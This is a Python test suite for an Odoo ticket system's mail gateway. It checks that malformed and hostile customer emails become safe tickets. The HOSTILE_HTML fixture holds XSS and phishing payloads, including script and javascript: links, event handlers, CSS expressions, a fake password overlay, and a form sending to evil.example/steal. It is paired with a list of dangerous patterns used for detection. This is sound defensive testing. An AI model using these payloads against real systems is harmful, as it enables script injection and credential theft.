"""Hostile mail stays safe: every sample below goes through message_process
as raw RFC 822 bytes (fetched, as fetchmail.server delivers it, and where it
matters piped, as from an MTA), becomes a ticket an agent can work with,
never breaks the parser, the database or the desk, and is never rendered
unsanitized. What had to be left out is noted on the ticket, and the mail as
received is kept with the message (original.eml)."""

import base64
import struct
import time

from markupsafe import Markup

from odoo.tests import Form, HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.mail.tests.common import mail_new_test_user

from .common_mail import TicketMailCommon

MODES = ("piped", "fetched")
MUTED = (
    "odoo.addons.ticket_system.models.mail_thread",
    "odoo.addons.ticket_system.models.mail_thread_hostile",
    "odoo.addons.mail.models.mail_thread",
)


def raw_mail(key, content_headers, body, sender=None, subject=None, extra=b""):
    """A mail from a customer to the queue address ({domain}: filled in)."""
    key = key.encode()
    if sender is None:
        sender = b"From: Kunde Feind <kunde." + key + b"@example.com>\r\n"
    return (
        sender
        + b"To: service-gw@{domain}\r\n"
        + b"Subject: "
        + (subject if subject is not None else b"Anfrage " + key)
        + b"\r\nMessage-ID: <hostile-"
        + key
        + b"@example.com>\r\n"
        + extra
        + b"MIME-Version: 1.0\r\n"
        + content_headers
        + b"\r\n"
        + body
    )


def plain(key, text=b"Wo bleibt meine Bestellung 4711?\r\n", **kwargs):
    return raw_mail(
        key,
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n",
        text,
        **kwargs,
    )


def nested(key, depth, text=b"Tief verschachtelt: Bestellung 4711 fehlt."):
    """A multipart/mixed holding a multipart/mixed ... ``depth`` levels deep,
    the text at the bottom."""
    opening = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
        for i in range(depth)
    )
    body = (
        opening
        + b"--b%d\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" % depth
        + text
        + b"\r\n--b%d--\r\n" % depth
        + b"".join(b"--b%d--\r\n" % i for i in range(depth - 1, -1, -1))
    )
    return raw_mail(key, b'Content-Type: multipart/mixed; boundary="b0"\r\n', body)


def with_attachment(key, name, data, text=b"Anbei die Unterlagen.", extra=b""):
    body = (
        b"--m\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + text
        + b'\r\n--m\r\nContent-Type: application/octet-stream; name="'
        + name.encode()
        + b'"\r\nContent-Disposition: attachment; filename="'
        + name.encode()
        + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(data)
        + b"--m--\r\n"
    )
    return raw_mail(
        key, b'Content-Type: multipart/mixed; boundary="m"\r\n', body, extra=extra
    )


def tnef_attribute(level, attribute, data):
    """One TNEF attribute (MS-OXTNEF 2.1.3): level, id, length, data,
    checksum."""
    return (
        struct.pack("<BII", level, attribute, len(data))
        + data
        + struct.pack("<H", sum(data) & 0xFFFF)
    )


def tnef_stream(files):
    """A winmail.dat as Outlook writes it: per file the rendering data, the
    short title, the content and (when given) the long name as MAPI
    property PR_ATTACH_LONG_FILENAME (PT_UNICODE)."""
    stream = b"\x78\x9f\x3e\x22" + struct.pack("<H", 0x0001)
    stream += tnef_attribute(1, 0x00089006, struct.pack("<I", 0x00010000))
    stream += tnef_attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")
    for short_name, long_name, data in files:
        stream += tnef_attribute(2, 0x00069002, b"\x01\x00" + b"\xff" * 12)
        stream += tnef_attribute(2, 0x00018010, short_name.encode("cp1252") + b"\x00")
        stream += tnef_attribute(2, 0x0006800F, data)
        if long_name:
            name = (long_name + "\x00").encode("utf-16-le")
            props = struct.pack("<I", 2)
            # PR_ATTACH_SIZE (PT_LONG), then PR_ATTACH_LONG_FILENAME (PT_UNICODE)
            props += struct.pack("<HHI", 0x0003, 0x0E20, len(data))
            props += struct.pack("<HHII", 0x001F, 0x3707, 1, len(name))
            props += name + b"\x00" * (-len(name) % 4)
            stream += tnef_attribute(2, 0x00069005, props)
    return stream


CALENDAR = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
    b"SUMMARY:Reklamation besprechen\r\nDTSTART:20261210T100000Z\r\n"
    b"DTEND:20261210T110000Z\r\nLOCATION:Telefon\r\n"
    b"ORGANIZER;CN=Kunde:mailto:kunde.termin@example.com\r\n"
    b"END:VEVENT\r\nEND:VCALENDAR\r\n"
)

HOSTILE_HTML = (
    b"<html><head><style>@import url(http://evil.example/x.css);"
    b" div { position: fixed; top: 0 }</style>"
    b'<link rel="stylesheet" href="http://evil.example/y.css">'
    b'<meta http-equiv="refresh" content="0;url=http://evil.example">'
    b'<base href="http://evil.example/"></head><body>'
    b"<script>alert('script')</script>"
    b'<iframe src="http://evil.example/frame"></iframe>'
    b'<object data="http://evil.example/o.swf"></object><embed src="x.swf">'
    b"<a href=\"javascript:alert('href')\">Klick</a>"
    b'<a href=" JaVaScRiPt:alert(1)">Zwei</a>'
    b'<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
    b'z-index:9999;background:white">Bitte Passwort eingeben</div>'
    b"<p style=\"width:expression(alert('css'))\">Ausdruck</p>"
    b'<p style="background:url(javascript:alert(2))">Hintergrund</p>'
    b'<img src="x" onerror="alert(\'img\')"><svg onload="alert(\'svg\')"></svg>'
    b'<form action="http://evil.example/steal"><input name="pw"></form>'
    b"<p>Bestellung 4711 ist besch\xc3\xa4digt.</p></body></html>\r\n"
)
DANGEROUS = (
    "<script",
    "alert(",
    "<iframe",
    "<object",
    "<embed",
    "<base",
    "<meta",
    "<link",
    "<style",
    "@import",
    "javascript:",
    "expression(",
    "position:fixed",
    "position: fixed",
    "onerror",
    "onload",
    "<form",
    "evil.example",
)


class HostileMailCase(TicketMailCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server = cls._create_mailbox("feind@shop.example", cls.queue)

    def _process(self, raw, mode="fetched"):
        raw = raw.replace(b"{domain}", self.alias_domain.encode())
        MailThread = self.env["mail.thread"].sudo()
        if mode == "fetched":
            MailThread = MailThread.with_context(
                fetchmail_cron_running=True, default_fetchmail_server_id=self.server.id
            )
        return MailThread.message_process("ticket.ticket", raw), raw

    def _ticket(self, raw, mode="fetched"):
        ticket_id, raw = self._process(raw, mode)
        self.assertTrue(ticket_id, "a ticket, not a failed mail")
        self.assertFalse(
            self.env["ticket.mail.failure"]
            .search([("raw", "!=", False)])
            .filtered(lambda f: f.raw == base64.b64encode(raw))
        )
        return self.env["ticket.ticket"].browse(ticket_id), raw

    @staticmethod
    def _mail_message(ticket):
        return ticket.message_ids.filtered(lambda m: m.message_type == "email")

    @staticmethod
    def _notes(ticket):
        return " ".join(
            str(m.body)
            for m in ticket.message_ids
            if m.message_type == "notification" and m.subtype_id.internal
        )

    def _assert_original(self, message, raw):
        original = message.attachment_ids.filtered(lambda a: a.name == "original.eml")
        self.assertEqual(len(original), 1, "the mail as received is kept")
        self.assertEqual(base64.b64decode(original.datas), raw, "byte for byte")


@tagged("post_install", "-at_install", "mail_gateway")
class TestHostileMail(HostileMailCase):
    @mute_logger(*MUTED)
    def test_megabyte_subject(self):
        subject = b"Bestellung 4711 " + b"A" * 1_000_000
        with self.mock_mail_gateway():
            ticket, _raw = self._ticket(plain("subject", subject=subject))
        self.assertLessEqual(len(ticket.name), 200, "a usable ticket subject")
        self.assertTrue(ticket.name.startswith("Bestellung 4711 AAA"))
        self.assertTrue(ticket.name.endswith("…"))
        message = self._mail_message(ticket)
        self.assertEqual(message.subject, subject.decode(), "the message keeps it all")
        # list and kanban read the short subject
        rows = self.env["ticket.ticket"].web_search_read(
            [("id", "=", ticket.id)], {"name": {}, "number": {}, "partner_id": {}}
        )["records"]
        self.assertLessEqual(len(rows[0]["name"]), 200)
        confirmation = self._new_mails.filtered(
            lambda m: "auto-replied" in (m.headers or "")
        )
        self.assertEqual(len(confirmation), 1)
        self.assertLess(len(confirmation.subject), 300, "no megabyte back to them")

    @mute_logger(*MUTED)
    def test_ten_thousand_recipients(self):
        addresses = b", ".join(b"empf%d@viele.example" % i for i in range(10000))
        Partner = self.env["res.partner"].with_context(active_test=False)
        partners_before = Partner.search_count([])
        queries_before = self.env.cr.sql_log_count
        started = time.monotonic()
        with self.mock_mail_gateway():
            ticket, raw = self._ticket(
                plain(
                    "viele",
                    # our address last: the routing still finds it
                    extra=b"Cc: " + addresses + b", service-gw@{domain}\r\n",
                )
            )
        elapsed = time.monotonic() - started
        queries = self.env.cr.sql_log_count - queries_before
        self.assertEqual(ticket.queue_id, self.queue)
        self.assertLess(elapsed, 10, "Python's address parser took 20-40 s")
        self.assertLess(queries, 250)
        self.assertEqual(Partner.search_count([]), partners_before, "no contacts")
        self.assertLessEqual(len(ticket.message_follower_ids), 3)
        cc = ticket.email_cc.split(", ")
        self.assertEqual(
            [address for address in cc if "viele" in address],
            [f"empf{index}@viele.example" for index in range(50)],
            "the first 50 CC addresses",
        )
        self.assertIn("10001 recipients", self._notes(ticket))
        self._assert_original(self._mail_message(ticket), raw)
        # an answer goes to the sender and the 50, not to 10 000
        self.assertEqual(len(ticket._reply_recipient_emails()), 1 + 50)

    @mute_logger(*MUTED)
    def test_deeply_nested_parts(self):
        for mode in MODES:
            for depth in (200, 1000):
                with self.subTest(mode=mode, depth=depth):
                    ticket, raw = self._ticket(
                        nested(f"tief-{depth}-{mode}", depth), mode
                    )
                    message = self._mail_message(ticket)
                    self.assertIn("Bestellung 4711 fehlt", str(message.body))
                    if depth == 1000:
                        self._assert_original(message, raw)

    @mute_logger(*MUTED)
    def test_deeply_nested_keeps_every_part(self):
        body = (
            b"--b0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOben\r\n"
            b'--b0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n'
            + nested("innen", 80).split(b"\r\n\r\n", 1)[1].replace(b"--b", b"--c")
            + b'\r\n--b0\r\nContent-Type: application/pdf; name="beleg.pdf"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(b"%PDF-1.4 Beleg")
            + b"--b0--\r\n"
        )
        raw = raw_mail(
            "teile", b'Content-Type: multipart/mixed; boundary="b0"\r\n', body
        )
        ticket, _raw = self._ticket(raw)
        message = self._mail_message(ticket)
        self.assertIn("Oben", str(message.body))
        pdf = message.attachment_ids.filtered(lambda a: a.name == "beleg.pdf")
        self.assertEqual(base64.b64decode(pdf.datas), b"%PDF-1.4 Beleg")

    @mute_logger(*MUTED)
    def test_no_from_and_several_from(self):
        for mode in MODES:
            with self.subTest(mode=mode, kind="no from"):
                ticket, _raw = self._ticket(plain(f"ohne-{mode}", sender=b""), mode)
                self.assertEqual(ticket.queue_id, self.queue)
                self.assertFalse(ticket.partner_email)
                self.assertIn("Bestellung 4711", str(ticket.description))
            with self.subTest(mode=mode, kind="several from"):
                ticket, _raw = self._ticket(
                    plain(
                        f"zwei-{mode}",
                        sender=b"From: Eins <eins.%s@example.com>\r\n"
                        b"From: Zwei <zwei@example.com>\r\n" % mode.encode(),
                    ),
                    mode,
                )
                self.assertEqual(ticket.partner_email, f"eins.{mode}@example.com")

    @mute_logger(*MUTED)
    def test_nul_bytes(self):
        for mode in MODES:
            with self.subTest(mode=mode):
                ticket, raw = self._ticket(
                    plain(
                        f"nul-{mode}",
                        subject=b"Anfrage\x00 mit NUL",
                        sender=b"From: Kunde\x00 Null <kunde.null@example.com>\r\n",
                        text=b"Text mit \x00 NUL-Byte\r\n",
                    ),
                    mode,
                )
                self.assertEqual(ticket.name, "Anfrage mit NUL")
                message = self._mail_message(ticket)
                self.assertIn("Text mit  NUL-Byte", str(message.body))
                self.assertEqual(ticket.partner_email, "kunde.null@example.com")
                self._assert_original(message, raw)

    @mute_logger(*MUTED)
    def test_eight_bit_and_broken_encoded_words(self):
        ticket, _raw = self._ticket(
            plain(
                "achtbit",
                subject=b"Gr\xfc\xdfe aus K\xf6ln",
                sender=b"From: J\xfcrgen M\xfcller <juergen@example.com>\r\n",
            )
        )
        self.assertEqual(ticket.name, "Grüße aus Köln", "8-bit latin-1 read")
        self.assertEqual(ticket.partner_name, "Jürgen Müller")
        ticket, _raw = self._ticket(
            plain(
                "utf8",
                subject=b"R\xc3\xbccksendung f\xc3\xbcr Bestellung",
                sender=b"From: =?utf-8?B?SsO8cmdlbg==?= <j2@example.com>\r\n",
            )
        )
        self.assertEqual(ticket.name, "Rücksendung für Bestellung")
        self.assertEqual(ticket.partner_name, "Jürgen")
        ticket, _raw = self._ticket(
            plain(
                "worte",
                subject=b"=?utf-8?B?!!!kaputt?= =?x-unknown?Q?Gr=FC=DFe?="
                b" =?utf-8?Q?aus_K=F6ln?= =?iso-8859-1?q?=E4?=",
            )
        )
        self.assertNotIn("\ufffd", ticket.name)
        self.assertIn("=?utf-8?B?!!!kaputt?=", ticket.name, "a broken word stays")
        self.assertIn("Grüße", ticket.name, "unknown charset: read as UTF-8/1252")
        self.assertIn("aus Köln", ticket.name, "lying charset: read as 1252")

    @mute_logger(*MUTED)
    def test_tnef_winmail_dat(self):
        pdf = b"%PDF-1.4 Rechnung " + bytes(range(256)) * 4
        files = [
            ("RECHNU~1.PDF", "Rechnung März 2026.pdf", pdf),
            ("FOTO.JPG", None, b"\xff\xd8\xff\xe0 JPEG"),
        ]
        raw = with_attachment("tnef", "winmail.dat", tnef_stream(files))
        ticket, _raw = self._ticket(raw)
        attachments = self._mail_message(ticket).attachment_ids
        self.assertEqual(
            set(attachments.mapped("name")),
            {"winmail.dat", "Rechnung März 2026.pdf", "FOTO.JPG"},
        )
        by_name = {a.name: base64.b64decode(a.datas) for a in attachments}
        self.assertEqual(by_name["Rechnung März 2026.pdf"], pdf)
        self.assertEqual(by_name["FOTO.JPG"], b"\xff\xd8\xff\xe0 JPEG")

    @mute_logger(*MUTED)
    def test_tnef_broken_is_kept(self):
        stream = tnef_stream([("A.TXT", "lang.txt", b"Inhalt")])
        for index, broken in enumerate(
            (
                stream[:-9],  # cut off
                stream[:40] + struct.pack("<BII", 2, 0x0006800F, 0xFFFFFFF0),
                b"\x78\x9f\x3e\x22" + b"\x00" * 3,
            )
        ):
            with self.subTest(index=index):
                raw = with_attachment(f"tnef-kaputt-{index}", "winmail.dat", broken)
                ticket, _raw = self._ticket(raw)
                names = self._mail_message(ticket).attachment_ids.mapped("name")
                self.assertIn("winmail.dat", names)
                self.assertLessEqual(len(names), 2)

    @mute_logger(*MUTED)
    def test_calendar_invitations(self):
        alternative = (
            b"--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            b"Einladung zum Termin\r\n"
            b"--c\r\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n"
            + CALENDAR
            + b"--c--\r\n"
        )
        ticket, _raw = self._ticket(
            raw_mail(
                "termin",
                b'Content-Type: multipart/alternative; boundary="c"\r\n',
                alternative,
            )
        )
        message = self._mail_message(ticket)
        self.assertIn("Einladung zum Termin", str(message.body))
        ics = message.attachment_ids
        self.assertEqual(ics.mapped("name"), ["invite.ics"])
        self.assertEqual(ics.mimetype, "text/calendar")
        self.assertIn(b"SUMMARY:Reklamation", base64.b64decode(ics.datas))
        # a mail that is nothing but an invitation
        ticket, _raw = self._ticket(
            raw_mail(
                "nur-termin",
                b"Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\n",
                CALENDAR,
            )
        )
        message = self._mail_message(ticket)
        body = str(message.body)
        self.assertNotIn("BEGIN:VCALENDAR", body, "readable, not the raw calendar")
        self.assertIn("Reklamation besprechen", body)
        self.assertIn("10.12.2026 10:00 UTC", body)
        self.assertIn("Telefon", body)
        self.assertIn("kunde.termin@example.com", body)
        self.assertEqual(message.attachment_ids.mapped("name"), ["invite.ics"])
        self.assertIn("Reklamation besprechen", str(ticket.description))

    @mute_logger(*MUTED)
    def test_html_stored_sanitized(self):
        for mode in MODES:
            with self.subTest(mode=mode):
                ticket, _raw = self._ticket(
                    raw_mail(
                        f"html-{mode}",
                        b"Content-Type: text/html; charset=utf-8\r\n",
                        HOSTILE_HTML,
                    ),
                    mode,
                )
                stored = str(self._mail_message(ticket).body)
                description = str(ticket.description)
                for html in (stored, description):
                    self.assertIn("Bestellung 4711 ist beschädigt.", html)
                    for dangerous in DANGEROUS:
                        self.assertNotIn(dangerous, html.replace("\n", " "))
                # an agent writing styles keeps the harmless ones
                ticket.description = Markup(
                    '<p style="color: red; position: fixed">Rot</p>'
                )
                self.assertIn("color", str(ticket.description))
                self.assertNotIn("position", str(ticket.description))


@tagged("post_install", "-at_install", "mail_gateway")
class TestAttachmentLimit(HostileMailCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.queue.attachment_limit = 1

    def test_queue_setting(self):
        self.assertEqual(
            self.env["ticket.queue"].create({"name": "Neu"}).attachment_limit, 25
        )
        with Form(self.env["ticket.queue"]) as form:
            form.name = "Mit Grenze"
            self.assertEqual(form.attachment_limit, 25)
            form.attachment_limit = 10
        self.assertEqual(form.record.attachment_limit, 10)

    @mute_logger(*MUTED)
    def test_oversized_attachment_replaced_by_note(self):
        big = b"%PDF" + b"x" * (1536 * 1024)
        for mode in MODES:
            with self.subTest(mode=mode):
                raw = with_attachment(f"gross-{mode}", "rechnung.pdf", big)
                ticket, raw = self._ticket(raw, mode)
                message = self._mail_message(ticket)
                self.assertEqual(
                    message.attachment_ids.mapped("name"),
                    ["original.eml"],
                    "not stored as an attachment",
                )
                self._assert_original(message, raw)
                self.assertIn("Anbei die Unterlagen", str(message.body))
                notes = self._notes(ticket)
                self.assertIn("rechnung.pdf (1.5 MB)", notes)
                self.assertIn("limit of 1 MB", notes)
                self.assertIn("original.eml", notes)

    @mute_logger(*MUTED)
    def test_small_attachment_and_no_limit(self):
        ticket, _raw = self._ticket(
            with_attachment("klein", "foto.jpg", b"\xff\xd8" + b"y" * 500_000)
        )
        message = self._mail_message(ticket)
        self.assertEqual(message.attachment_ids.mapped("name"), ["foto.jpg"])
        self.assertFalse(self._notes(ticket))
        self.queue.attachment_limit = 0
        ticket, _raw = self._ticket(
            with_attachment("ohne-grenze", "gross.pdf", b"%PDF" + b"x" * 1_200_000)
        )
        self.assertEqual(
            self._mail_message(ticket).attachment_ids.mapped("name"), ["gross.pdf"]
        )

    @mute_logger(*MUTED)
    def test_reply_with_oversized_attachment(self):
        ticket, _raw = self._ticket(plain("erste"))
        first = self._mail_message(ticket)
        other = self.env["ticket.queue"].create(
            {"name": "Großzügig", "attachment_limit": 50}
        )
        ticket.queue_id = other
        other.attachment_limit = 1
        raw = with_attachment(
            "antwort",
            "scan.raw",
            b"RAW\x00" + b"z" * (2 * 1024 * 1024),
            text=b"Hier das Foto des Schadens.",
            extra=b"In-Reply-To: " + first.message_id.encode() + b"\r\n",
        )
        ticket_id, raw = self._process(raw)
        self.assertEqual(ticket_id, ticket.id, "joins the ticket")
        reply = ticket.message_ids.filtered(
            lambda m: m.message_id == "<hostile-antwort@example.com>"
        )
        self.assertEqual(reply.attachment_ids.mapped("name"), ["original.eml"])
        self._assert_original(reply, raw)
        self.assertIn("scan.raw (2.0 MB)", self._notes(ticket))

    @mute_logger(*MUTED)
    def test_limit_of_the_ticket_queue_for_replies(self):
        ticket, _raw = self._ticket(plain("erste-gross"))
        first = self._mail_message(ticket)
        ticket.queue_id = self.env["ticket.queue"].create(
            {"name": "Großzügig", "attachment_limit": 50}
        )
        raw = with_attachment(
            "antwort-gross",
            "scan.raw",
            b"RAW\x00" + b"z" * (2 * 1024 * 1024),
            extra=b"In-Reply-To: " + first.message_id.encode() + b"\r\n",
        )
        self._process(raw)
        reply = ticket.message_ids.filtered(
            lambda m: m.message_id == "<hostile-antwort-gross@example.com>"
        )
        self.assertEqual(reply.attachment_ids.mapped("name"), ["scan.raw"])


@tagged("post_install", "-at_install", "mail_gateway")
class TestHostileHtmlRendered(HttpCase, HostileMailCase):
    """What the portal page and the chatter show of hostile HTML."""

    @mute_logger(*MUTED)
    def test_portal_and_chatter_render_sanitized(self):
        customer = self.env["res.partner"].create(
            {"name": "Hanna Html", "email": "kunde.html-portal@example.com"}
        )
        mail_new_test_user(
            self.env,
            login="hanna_portal",
            groups="base.group_portal",
            partner_id=customer.id,
        )
        ticket, _raw = self._ticket(
            raw_mail(
                "html-portal",
                b"Content-Type: text/html; charset=utf-8\r\n",
                HOSTILE_HTML,
            )
        )
        ticket.partner_id = customer
        self.authenticate("hanna_portal", "hanna_portal")
        page = self.url_open(f"/my/tickets/{ticket.id}")
        self.assertEqual(page.status_code, 200)
        self.assertIn("Bestellung 4711 ist beschädigt.", page.text)
        for dangerous in ("alert(", "evil.example", "position:fixed", "expression("):
            self.assertNotIn(dangerous, page.text)
        for url in ("/mail/thread/messages",):
            self.authenticate("gw_agent", "gw_agent")
            data = self.make_jsonrpc_request(
                url, {"thread_model": "ticket.ticket", "thread_id": ticket.id}
            )
            bodies = " ".join(
                str(message["body"]) for message in data["data"]["mail.message"]
            )
            self.assertIn("Bestellung 4711 ist beschädigt.", bodies)
            for dangerous in DANGEROUS:
                self.assertNotIn(dangerous, bodies)
